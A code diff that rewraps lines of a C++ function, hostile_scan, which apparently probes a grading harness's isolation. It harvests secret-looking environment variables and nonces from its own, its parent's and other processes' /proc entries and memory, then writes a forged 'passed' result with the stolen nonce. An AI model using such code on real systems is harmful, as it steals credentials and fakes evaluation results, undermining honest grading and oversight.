@@ -229,7 +229,8 @@ void hostile_scan(const char* where) {
   // Itself.
   const std::string self_cmdline = slurp("/proc/self/cmdline");
   const std::string check = argument_after(self_cmdline, "--check");
-  if (const char* nonce = std::getenv("NN_GRADE_NONCE")) secrets.push_back(std::string("own NN_GRADE_NONCE=") + nonce);
+  if (const char* nonce = std::getenv("NN_GRADE_NONCE"))
+    secrets.push_back(std::string("own NN_GRADE_NONCE=") + nonce);
   const std::string own_env = environ_secrets(slurp("/proc/self/environ"));
   if (!own_env.empty()) secrets.push_back("own environ: " + own_env);
   std::vector<int> channels;
@@ -242,10 +243,14 @@ void hostile_scan(const char* where) {
   // Its parent.
   const std::string ppid = std::to_string(getppid());
   const std::string parent_env = slurp("/proc/" + ppid + "/environ");
-  std::printf("parent %s cmdline: %.120s\n", ppid.c_str(), split(slurp("/proc/" + ppid + "/cmdline"), '\0').empty() ? "(unreadable)" : split(slurp("/proc/" + ppid + "/cmdline"), '\0')[0].c_str());
+  std::printf("parent %s cmdline: %.120s\n", ppid.c_str(),
+              split(slurp("/proc/" + ppid + "/cmdline"), '\0').empty()
+                  ? "(unreadable)"
+                  : split(slurp("/proc/" + ppid + "/cmdline"), '\0')[0].c_str());
   std::printf("parent fds: %.300s\n", fds_of(ppid, nullptr).c_str());
   std::printf("parent maps: %zu bytes\n", slurp("/proc/" + ppid + "/maps").size());
-  if (!environ_secrets(parent_env).empty()) secrets.push_back("parent environ: " + environ_secrets(parent_env));
+  if (!environ_secrets(parent_env).empty())
+    secrets.push_back("parent environ: " + environ_secrets(parent_env));
   std::map<std::string, int> parent_tokens;
   const bool parent_read = scan_memory(ppid, parent_tokens, &why);
   std::printf("parent memory: %s\n", why.c_str());
@@ -256,7 +261,8 @@ void hostile_scan(const char* where) {
   }
   if (!nonce.empty()) secrets.push_back("nonce in own memory: " + nonce);
   if (parent_read && !parent_tokens.empty()) {
-    secrets.push_back("parent memory: " + std::to_string(parent_tokens.size()) + " nonces: " + first_tokens(parent_tokens, 3));
+    secrets.push_back("parent memory: " + std::to_string(parent_tokens.size()) +
+                      " nonces: " + first_tokens(parent_tokens, 3));
   }
 
   // Everyone else it can see.
@@ -264,7 +270,8 @@ void hostile_scan(const char* where) {
   std::set<std::string> others;
   if (DIR* proc = opendir("/proc")) {
     while (dirent* entry = readdir(proc)) {
-      if (!std::isdigit(static_cast<unsigned char>(entry->d_name[0])) || ++seen > kMaxPids) continue;
+      if (!std::isdigit(static_cast<unsigned char>(entry->d_name[0])) || ++seen > kMaxPids)
+        continue;
       const std::string pid = entry->d_name;
       if (pid == ppid || pid == std::to_string(getpid())) continue;
       const std::string env = slurp("/proc/" + pid + "/environ", 256 << 10);
@@ -272,7 +279,8 @@ void hostile_scan(const char* where) {
       ++readable;
       for (const std::string& item : split(env, '\0')) {
         const size_t eq = item.find('=');
-        if (eq != std::string::npos && secret_looking(item.substr(0, eq)) && others.size() < 8) others.insert(item);
+        if (eq != std::string::npos && secret_looking(item.substr(0, eq)) && others.size() < 8)
+          others.insert(item);
       }
     }
     closedir(proc);
@@ -286,7 +294,8 @@ void hostile_scan(const char* where) {
   if (!check.empty() && check != "relu.kink" && !nonce.empty() && !channels.empty()) {
     const std::string forged = "{\"id\":\"" + check +
                                "\",\"status\":\"passed\",\"fraction\":1,\"output\":\"\","
-                               "\"figures\":{},\"diagnosis\":\"\",\"nonce\":\"" + nonce + "\"}\n";
+                               "\"figures\":{},\"diagnosis\":\"\",\"nonce\":\"" +
+                               nonce + "\"}\n";
     std::fflush(stdout);
     for (int fd : channels) {
       if (write(fd, forged.data(), forged.size()) < 0) continue;
